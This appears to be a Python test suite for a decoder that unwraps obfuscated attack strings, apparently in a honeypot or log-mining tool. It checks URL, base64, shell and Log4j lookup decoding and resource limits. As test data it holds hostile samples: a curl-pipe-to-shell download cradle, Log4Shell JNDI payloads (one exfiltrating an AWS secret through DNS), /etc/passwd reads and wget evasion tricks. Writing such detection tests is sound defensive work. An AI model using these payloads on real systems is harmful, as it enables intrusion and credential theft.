"""Every wrapping that attackers use comes off, ordinary text stays as it is, and nothing grows without bound."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kanaria.mining.payload_decode import LIMIT, decode

CRADLE = "curl -s http://198.51.100.9/x.sh|sh"


def lines(text: str) -> list[str]:
    return decode(text).split("\n")


@pytest.mark.parametrize(
    ("wrapped", "plain"),
    [
        ("/a%3Bid", "/a;id"),
        ("/a%253Bid", "/a;id"),
        ("/%2525252577get", "/wget"),
        ("/a?x=cat+/etc/passwd", "/a?x=cat /etc/passwd"),
        ("/setup-s/%u002e%u002e/log.jsp", "/setup-s/../log.jsp"),
        ("/cgi-bin/.%%32%65/", "/cgi-bin/../"),
        ("&#x77;&#103;et &amp; id", "wget & id"),
        (r"\u0027+{a}", "' {a}"),
        (r"{\"a\":\"b\"}", '{"a":"b"}'),
        (r"\x77\x67et http://a", "wget http://a"),
        (r"$'\167\147\145\164' http://a", "$'wget' http://a"),
        ("chr(99).chr(117)", "c.u"),
        ("String.fromCharCode(99,117,114,108)", "String.curl"),
        ("T(java.lang.Character).toString(105)", "T(java.lang.Character).i"),
        ("%E3%82%AB%E3%83%8A%E3%83%AA%E3%82%A2", "カナリア"),
    ],
)
def test_encodings_come_off(wrapped: str, plain: str) -> None:
    assert lines(wrapped)[0] == plain


@pytest.mark.parametrize(
    "lookup",
    [
        "${jndi:ldap://x}",
        "${${lower:j}ndi:ldap://x}",
        "${${upper:j}ndi:ldap://x}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x}",
        "${${lower:${lower:jndi}}:ldap://x}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}",
        "${${date:'j'}${date:'n'}di:ldap://x}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
        "$%7B$%7Blower:j%7Dndi:ldap://x%7D",
        "${${base64:am5kaTpsZGFwOi8veA==}}",
    ],
)
def test_log4j_lookups_that_hide_letters_are_resolved(lookup: str) -> None:
    assert decode(lookup).lower().startswith("${jndi:ldap://x}")


def test_a_lookup_that_reads_something_is_left_to_be_seen() -> None:
    assert "${env:AWS_SECRET}" in decode("${jndi:dns://${env:AWS_SECRET}.example.com}")


@pytest.mark.parametrize(
    "hidden",
    [
        f"/?c=echo {base64.b64encode(CRADLE.encode()).decode()}|base64 -d|sh",
        f"/?x=${{jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/{base64.b64encode(CRADLE.encode()).decode()}}}",
        f"powershell -enc {base64.b64encode(CRADLE.encode('utf-16-le')).decode()}",
        f"/?x={quote(quote(base64.b64encode(CRADLE.encode()).decode()))}",
        f"/?x={base64.urlsafe_b64encode(CRADLE.encode()).decode()}",
        f"/?x={base64.b64encode(base64.b64encode(CRADLE.encode())).decode()}",
        f"/?x={base64.b64encode(quote(CRADLE).encode()).decode()}",
    ],
)
def test_base64_is_read_in_every_place_it_is_used(hidden: str) -> None:
    assert CRADLE in lines(hidden)


def test_base64_that_was_cut_is_read_as_far_as_it_goes() -> None:
    whole = base64.b64encode(CRADLE.encode()).decode()
    assert any(line.startswith("curl -s http://198.51") for line in lines("/?x=" + whole[:31]))


@pytest.mark.parametrize(
    "written",
    [
        "w'g'et http://a/b",
        'w"g"et http://a/b',
        r"w\get http://a/b",
        "wget$IFS$9http://a/b",
        "wget${IFS}http://a/b",
        "{wget,http://a/b}",
        "wg''et http://a/b",
        "w$@get http://a/b",
        "w%27g%27et%20http://a/b",
        "wget%09http://a/b",
    ],
)
def test_shell_disguises_are_read_as_the_shell_reads_them(written: str) -> None:
    assert "wget http://a/b" in [line.replace("\t", " ") for line in lines(written)]


@pytest.mark.parametrize(
    "ordinary",
    [
        "/",
        "/wp-content/uploads/2024/05/picture-of-a-canary.jpg?width=1024",
        "/en/reference/java/lang/Object.html",
        "/assets/index-BnVx3kQ2.js",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "/don't-stop/it's-fine",
        "/?token=3f9d2b7c8a1e4f60b5d2c3a4e5f60718",
    ],
)
def test_ordinary_text_stays_as_it_is(ordinary: str) -> None:
    assert decode(ordinary) == ordinary


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300))
def test_any_text_decodes_to_bounded_text(text: str) -> None:
    assert len(decode(text)) <= LIMIT


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="%25u04x\\&#;{}$:-+ljnd ()'\"Aa=/", max_size=400))
def test_text_made_of_markers_decodes_to_bounded_text(text: str) -> None:
    assert len(decode(text)) <= LIMIT


@settings(max_examples=40, deadline=None)
@given(
    st.text(alphabet=st.characters(min_codepoint=0x21, max_codepoint=0x7A, exclude_characters="%+&\\$('\""), min_size=1)
)
def test_percent_encoding_of_plain_text_comes_off_at_any_depth(text: str) -> None:
    once = "".join(f"%{ord(char):02x}" for char in text)
    assert lines(once)[0] == lines(once.replace("%", "%25"))[0] == lines(text)[0]


@pytest.mark.parametrize(
    "bomb",
    ["%25" * 6000, "${" * 8000, "${lower:" * 2000 + "}" * 2000, "QUJD" * 4000, "chr(99)." * 2000, "&#x41;" * 2500, "'a" * 8000,
     "{curl," * 2500, "QUJDREVGR0hJSktM/" * 900, "${${::-j}" * 1700],
)  # fmt: skip
def test_bombs_stay_cheap(bomb: str, benchmark_seconds: float = 2.0) -> None:
    import time

    start = time.process_time()
    decode(bomb)
    # Linear passes take milliseconds; two seconds only tell a quadratic one from a linear one on a busy machine.
    assert time.process_time() - start < benchmark_seconds
